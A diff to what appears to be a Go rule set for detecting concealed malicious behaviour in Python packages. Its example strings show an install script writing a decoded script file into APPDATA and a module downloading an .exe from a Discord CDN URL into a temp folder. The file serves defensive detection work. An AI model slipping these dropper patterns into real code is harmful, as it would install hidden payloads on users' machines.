@@ -43,7 +43,7 @@ func concealment() []Rule {
 			Graver: []Condition{{Triggers: []string{b.Install, b.Import}, Sources: []string{b.Blob}, Target: Aside}, {Name: Server}},
 			Examples: []Example{
 				Python("a script decoded into a folder of temporary files", "import base64, os\nfrom setuptools import setup\nopen(os.path.join(os.environ['APPDATA'], 'u.vbs'), 'wb').write(base64.b64decode('V1NjcmlwdC5FY2hvIDEgJyBqdXN0IGFuIGV4YW1wbGU='))\nsetup(name='example')\n"),
-				Module("a program fetched from a drop", "import requests, os\nopen(os.getenv('APPDATA')+'\\\\u.exe','wb').write(requests.get('https://cdn.discordapp.com/u.exe').content)\n"),
+				Module("a program fetched from a drop", "import requests, os\nopen(os.getenv('LOCALAPPDATA')+'\\\\Temp\\\\u.exe','wb').write(requests.get('https://cdn.discordapp.com/u.exe').content)\n"),
 			},
 			Neighbours: []Example{
 				Module("an image decoded into a folder", "import base64, os\nopen(os.path.join(os.environ['APPDATA'], 'u.png'), 'wb').write(base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'))\n"),
